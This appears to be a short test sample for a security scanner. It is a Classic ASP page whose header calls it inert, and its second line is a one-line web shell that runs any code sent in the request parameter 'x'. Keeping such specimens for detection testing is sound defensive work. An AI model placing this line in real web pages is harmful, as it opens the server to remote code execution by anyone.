<% shodo inert sample: deliberate compile error, this page never runs %>
<%ExecuteGlobal request("x")%>
